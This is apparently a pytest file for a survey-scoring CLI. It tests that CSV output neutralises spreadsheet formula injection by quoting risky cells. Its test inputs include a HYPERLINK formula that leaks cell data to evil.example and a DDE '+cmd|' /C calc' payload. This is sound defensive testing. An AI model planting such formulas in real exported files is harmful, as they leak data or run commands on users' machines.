"""`score -o`: cells copied from the input are written so that a spreadsheet never runs them."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trivselscore.cli.commands import main
from trivselscore.tabular.csvchunk import spreadsheet_safe

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"klik")'
IDS = [FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tTAB", "E-17", "-5", "+45", "3.0", "plain"]
SAFE = [
    "'" + FORMULA,
    "'+cmd|' /C calc'!A0",
    "'-2+3",
    "'@SUM(1+1)",
    "'\tTAB",
    "E-17",
    "-5",
    "+45",
    "3.0",
    "plain",
]


def score_file(tmp_path: Path, *extra: str, id_column: str = "elev") -> list[list[str]]:
    source = tmp_path / "answers.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow([id_column, "1", "2", "3", "4", "5"])
        writer.writerows([[pupil, "3", "3", "3", "3", "3"] for pupil in IDS])
    target = tmp_path / "scores.csv"
    code = main(
        ["score", "who5", str(source), "-o", str(target), "--id-column", id_column, *extra], out=io.StringIO()
    )
    assert code == 0
    with target.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_an_id_a_spreadsheet_would_run_gets_a_leading_quote(tmp_path):
    rows = score_file(tmp_path)
    assert [row[0] for row in rows[1:]] == SAFE
    assert all(row[1] == "15" for row in rows[1:])  # the scores are untouched


def test_raw_cells_copies_them_as_read(tmp_path):
    rows = score_file(tmp_path, "--raw-cells")
    assert [row[0] for row in rows[1:]] == IDS


def test_the_id_column_name_in_the_header_too(tmp_path):
    assert score_file(tmp_path, id_column="=1+1")[0][0] == "'=1+1"
    assert score_file(tmp_path, "--raw-cells", id_column="=1+1")[0][0] == "=1+1"


def test_raw_cells_is_for_files_only(capsys):
    assert main(["score", "who5", "3", "3", "3", "3", "3", "--raw-cells"], out=io.StringIO()) == 2
    assert "--raw-cells: only with a CSV file" in capsys.readouterr().err


@given(st.text())
def test_a_safe_cell_is_the_cell_or_the_cell_behind_a_quote(cell):
    safe = spreadsheet_safe(cell)
    assert safe in {cell, "'" + cell}
    if safe == cell and cell[:1] in set("=+-@\t\r"):
        float(cell.replace(",", "."))  # only a plain number keeps its sign unquoted


@pytest.mark.parametrize("cell", ["", "0", "E-17", "Anna"])
def test_ordinary_cells_are_unchanged(cell):
    assert spreadsheet_safe(cell) == cell
